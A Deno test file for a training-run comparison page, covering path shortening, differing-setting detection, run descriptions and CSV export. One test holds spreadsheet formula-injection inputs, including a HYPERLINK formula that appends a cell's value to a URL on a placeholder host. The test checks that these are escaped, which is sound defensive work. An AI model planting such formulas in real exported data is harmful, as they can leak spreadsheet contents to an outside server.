import { assertEquals } from "@std/assert";
import { lastParts, shortNames } from "../../ui/page/names.ts";
import { formatCsv } from "../../ui/page/csv.ts";
import { describeRun, differingSettings, formatSetting } from "../../ui/page/settings.ts";

Deno.test("shortNames are folder names where these tell runs apart, and else all from where paths differ", () => {
  assertEquals(shortNames(["/x/a"]), ["a"]);
  assertEquals(shortNames(["/x/a", "/y/b/"]), ["a", "b"]);
  assertEquals(shortNames(["/x/a/run", "/x/b/run", "/x/b/other"]), ["a/run", "b/run", "b/other"]);
  assertEquals(shortNames(["C:\\x\\a", "C:\\y\\a"]), ["x/a", "y/a"]);
  assertEquals(shortNames(["/"]), ["/"]);
});

Deno.test("lastParts are the end of a path", () => {
  assertEquals([lastParts("/data/images/train.tsv", 2), lastParts("train", 2)], [
    "images/train.tsv",
    "train",
  ]);
});

Deno.test("differingSettings are those that are not the same everywhere, but for where files are", () => {
  const runs = [{ lr: 0.1, queue: 64, output: "/a" }, { lr: 0.2, queue: 64, output: "/b", amp: true }];
  assertEquals(differingSettings(runs), ["lr", "amp"]);
  assertEquals(formatSetting(["/data/x.tsv", [1, 2], undefined]), ["x.tsv", "[1,2]", ""]);
  // Other files of one name are told apart.
  assertEquals(formatSetting(["/runs/a/c.pth", "/runs/b/c.pth", "/runs/a/c.pth"]), [
    "a/c.pth",
    "b/c.pth",
    "a/c.pth",
  ]);
  assertEquals(formatSetting(["cosine", "seed", "cosine"]), ["cosine", "seed", "cosine"]);
});

Deno.test("describeRun says who learns from whom, on what", () => {
  assertEquals(
    describeRun({
      student_arch: "resnet18",
      teacher_arch: "resnet50",
      teacher_ssl: "moco",
      data: "/d/e/t.tsv",
    }),
    { student: "resnet18", teacher: "resnet50 (moco)", data: "e/t.tsv" },
  );
  assertEquals(describeRun({ arch: "resnet18", train_data: "d" }), {
    student: "resnet18",
    teacher: "",
    data: "d",
  });
  assertEquals(describeRun(), { student: "", teacher: "", data: "" });
});

Deno.test("formatCsv quotes what would end a cell", () => {
  assertEquals(formatCsv([["run", "value"], ['a,"b"', "1\n2"]]), 'run,value\r\n"a,""b""","1\n2"\r\n');
});

Deno.test("formatCsv keeps text from being a formula, and numbers as they are", () => {
  const texts = ['=HYPERLINK("http://x/?"&A1)', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r1", "-", "-x"];
  assertEquals(
    formatCsv(texts.map((text) => [text])),
    [`"'=HYPERLINK(""http://x/?""&A1)"`, "'+1+2", "'-2+3", "'@SUM(A1)", "'\t=1", `"'\r1"`, "'-", "'-x", ""]
      .join("\r\n"),
  );
  const numbers = ["0", "-2", "-0.125", "1.50e-7", "-1e+21", "–", "cat"];
  assertEquals(formatCsv([numbers]), numbers.join() + "\r\n");
});
